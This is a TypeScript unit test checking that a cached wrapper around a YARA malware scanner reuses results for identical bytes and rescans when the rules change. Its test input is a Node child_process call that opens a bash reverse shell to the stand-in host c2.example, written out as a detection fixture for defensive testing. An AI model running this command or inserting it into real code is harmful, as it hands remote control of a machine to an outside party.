import { expect, test } from 'vitest';
import { createFactsMemory, openFactsSession } from './facts-cache.ts';
import { createCachedScanner } from './facts-cache-yara.ts';
import { createYaraScanner, type YaraScanner } from './yara/scanner.ts';

test('the rules are asked once about the same bytes, and again when they change', () => {
  const own = createYaraScanner();
  if (!own) return;
  let asked = 0;
  const counted: YaraScanner = {
    ...own,
    scan: (bytes, kind) => {
      asked++;
      return own.scan(bytes, kind);
    },
  };
  const bytes = Buffer.from("require('child_process').exec('bash -i >& /dev/tcp/c2.example/4444 0>&1')");
  const session = openFactsSession(createFactsMemory(1_000_000), () => new Map());
  const cached = createCachedScanner(counted, session);

  const first = cached.scan(bytes, 'code');
  expect(first).not.toEqual([]);
  expect(cached.scan(bytes, 'code')).toEqual(first);
  expect(asked).toBe(1);

  createCachedScanner({ ...counted, rulesHash: 'other' }, session).scan(bytes, 'code');
  expect(asked).toBe(2);
});
